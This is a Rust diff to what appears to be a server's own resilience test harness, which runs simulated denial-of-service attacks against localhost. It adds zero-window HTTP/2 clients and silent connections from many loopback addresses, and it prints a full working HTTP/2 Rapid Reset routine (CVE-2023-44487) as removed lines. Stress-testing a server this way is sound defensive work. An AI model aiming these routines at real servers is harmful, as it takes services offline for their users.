@@ -6,12 +6,14 @@ use std::time::Duration;
 
 use clap::ValueEnum;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use tokio::net::TcpStream;
+use tokio::net::{TcpSocket, TcpStream};
 use tokio::task::{JoinSet, LocalSet};
 use tokio::time::{sleep, timeout};
 
+use super::http2;
 use crate::load::{Answers, Target, Transport, begin_session};
 use crate::request::assemble;
+use crate::subject::CONNECTIONS_MAX;
 use crate::wire::Connection;
 
 /// What an attacker does.
@@ -29,11 +31,23 @@ pub(crate) enum Attack {
     StalledReaders,
     /// Streams of HTTP/2 that are reset as soon as they are opened (CVE-2023-44487).
     RapidReset,
+    /// Clients of HTTP/2 that ask, and leave no room for an answer.
+    ZeroWindow,
+    /// Silent connections of many addresses, more than there may be in all.
+    Places,
 }
 
 impl Attack {
-    pub(super) const ALL: [Self; 6] =
-        [Self::SlowHeads, Self::SlowBodies, Self::Connections, Self::Silence, Self::StalledReaders, Self::RapidReset];
+    pub(super) const ALL: [Self; 8] = [
+        Self::SlowHeads,
+        Self::SlowBodies,
+        Self::Connections,
+        Self::Silence,
+        Self::StalledReaders,
+        Self::RapidReset,
+        Self::ZeroWindow,
+        Self::Places,
+    ];
 
     pub(super) const fn name(self) -> &'static str {
         match self {
@@ -43,6 +57,8 @@ impl Attack {
             Self::Silence => "900 silent connections",
             Self::StalledReaders => "50 stalled readers of 8 MB each",
             Self::RapidReset => "rapid resets, 20000/s",
+            Self::ZeroWindow => "50 HTTP/2 clients with 32 answers of 16 kB each and a zero window",
+            Self::Places => "900 silent connections of 30 addresses for 500 places",
         }
     }
 
@@ -54,6 +70,22 @@ impl Attack {
             Self::Silence => "silence",
             Self::StalledReaders => "stalled-readers",
             Self::RapidReset => "rapid-reset",
+            Self::ZeroWindow => "zero-window",
+            Self::Places => "places",
+        }
+    }
+
+    /// How many connections the server may have while this goes on.
+    pub(super) const fn connections_max(self) -> usize {
+        match self {
+            Self::Places => 500,
+            Self::SlowHeads
+            | Self::SlowBodies
+            | Self::Connections
+            | Self::Silence
+            | Self::StalledReaders
+            | Self::RapidReset
+            | Self::ZeroWindow => CONNECTIONS_MAX,
         }
     }
 }
@@ -70,15 +102,15 @@ pub(crate) fn attack(attack: Attack, address: SocketAddr, seconds: f64) -> Resul
         let count = match attack {
             Attack::SlowHeads | Attack::SlowBodies => 500,
             Attack::Connections => 4,
-            Attack::Silence => 900,
-            Attack::StalledReaders => 50,
+            Attack::Silence | Attack::Places => 900,
+            Attack::StalledReaders | Attack::ZeroWindow => 50,
             Attack::RapidReset => 2,
         };
-        for _ in 0..count {
+        for number in 0..count {
             attackers.spawn_local(async move {
                 loop {
                     // Whoever is thrown out comes again, a little later.
-                    let _ = one(attack, address).await;
+                    let _ = one(attack, number, address).await;
                     sleep(AGAIN).await;
                 }
             });
@@ -89,7 +121,7 @@ pub(crate) fn attack(attack: Attack, address: SocketAddr, seconds: f64) -> Resul
     Ok(())
 }
 
-async fn one(attack: Attack, address: SocketAddr) -> Result<()> {
+async fn one(attack: Attack, number: u16, address: SocketAddr) -> Result<()> {
     match attack {
         Attack::SlowHeads => {
             let mut stream = TcpStream::connect(address).await?;
@@ -115,7 +147,16 @@ async fn one(attack: Attack, address: SocketAddr) -> Result<()> {
             stream.read_u8().await.map(drop)
         }
         Attack::StalledReaders => stall(address).await,
-        Attack::RapidReset => rapid_reset(address).await,
+        Attack::RapidReset => http2::rapid_reset(address).await,
+        Attack::ZeroWindow => http2::zero_window(address).await,
+        Attack::Places => {
+            // All of 127.0.0.0/8 is this machine. The honest clients have its first address.
+            let [_, low] = (number % ADDRESSES).to_be_bytes();
+            let socket = TcpSocket::new_v4()?;
+            socket.bind(SocketAddr::from(([127, 0, 1, low], 0)))?;
+            let mut stream = socket.connect(address).await?;
+            stream.read_u8().await.map(drop)
+        }
     }
 }
 
@@ -152,37 +193,6 @@ async fn stall(address: SocketAddr) -> Result<()> {
     Ok(())
 }
 
-/// Opens streams and resets them at once (RFC 9113, 6.4), a hundred every 10 ms.
-async fn rapid_reset(address: SocketAddr) -> Result<()> {
-    let mut stream = TcpStream::connect(address).await?;
-    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
-    stream.write_all(&frame(0x4, 0, 0, &[])).await?;
-    // GET, http, /, and `:authority: localhost` as a literal (RFC 7541, 6.1 and 6.2.2).
-    let head = [&[0x82, 0x86, 0x84, 0x01, 9][..], b"localhost"].concat();
-    for first in (1_u32..).step_by(200) {
-        let mut burst = Vec::new();
-        for id in (first..first + 200).step_by(2) {
-            burst.extend_from_slice(&frame(0x1, 0x5, id, &head));
-            burst.extend_from_slice(&frame(0x3, 0, id, &8_u32.to_be_bytes()));
-        }
-        stream.write_all(&burst).await?;
-        sleep(Duration::from_millis(10)).await;
-        let mut answers = [0; 4096];
-        while let Ok(read) = stream.try_read(&mut answers) {
-            if read == 0 {
-                return Ok(());
-            }
-        }
-    }
-    Ok(())
-}
-
-/// A frame of HTTP/2 (RFC 9113, 4.1).
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
-    let [_, length @ ..] = length;
-    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
-}
-
 const AGAIN: Duration = Duration::from_millis(50);
 const SECONDS_MAX: f64 = 600.0;
+const ADDRESSES: u16 = 30;
